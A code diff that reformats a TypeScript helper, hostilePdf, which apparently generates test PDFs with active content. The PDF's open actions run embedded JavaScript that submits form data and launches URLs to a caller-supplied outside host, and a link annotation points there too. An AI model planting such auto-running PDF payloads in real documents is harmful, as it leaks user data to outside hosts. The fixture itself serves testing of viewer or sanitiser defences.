@@ -58,17 +58,20 @@ export const hostilePdf = (pages: number, stranger: string): Buffer => {
   const first = 6
   add("<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript << /Names [(go) 4 0 R] >> >> >>")
   add(
-    `<< /Type /Pages /Count ${pages} /Kids [${Array.from({ length: pages }, (_, at) => `${first + at * 2} 0 R`).join(" ")}] >>`
+    `<< /Type /Pages /Count ${pages} /Kids ` +
+      `[${Array.from({ length: pages }, (_, at) => `${first + at * 2} 0 R`).join(" ")}] >>`
   )
   add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
   add(
-    `<< /S /JavaScript /JS (app.alert\\("taken"\\); this.submitForm\\("${stranger}/form"\\); app.launchURL\\("${stranger}/launched"\\);) /Next << /S /URI /URI (${stranger}/opened) >> >>`
+    `<< /S /JavaScript /JS (app.alert\\("taken"\\); this.submitForm\\("${stranger}/form"\\); ` +
+      `app.launchURL\\("${stranger}/launched"\\);) /Next << /S /URI /URI (${stranger}/opened) >> >>`
   )
   add(`<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A << /S /URI /URI (${stranger}/pressed) >> >>`)
   for (let page = 1; page <= pages; page++) {
     const drawn = `0.8 0.1 0.1 rg 0 0 150 150 re f 0 g BT /F1 24 Tf 20 250 Td (Word ${page}) Tj ET`
     add(
-      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Resources << /Font << /F1 3 0 R >> >> /Contents ${first + page * 2 - 1} 0 R /Annots [5 0 R] /AA << /O 4 0 R >> >>`
+      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Resources << /Font << /F1 3 0 R >> >> /Contents " +
+        `${first + page * 2 - 1} 0 R /Annots [5 0 R] /AA << /O 4 0 R >> >>`
     )
     add(`<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`)
   }
@@ -79,7 +82,9 @@ export const hostilePdf = (pages: number, stranger: string): Buffer => {
     return place
   })
   const table = text.length
-  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("")}`
+  text +=
+    `xref\n0 ${objects.length + 1}\n0000000000 65535 f ` +
+    `\n${places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("")}`
   return Buffer.from(
     `${text}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`,
     "latin1"
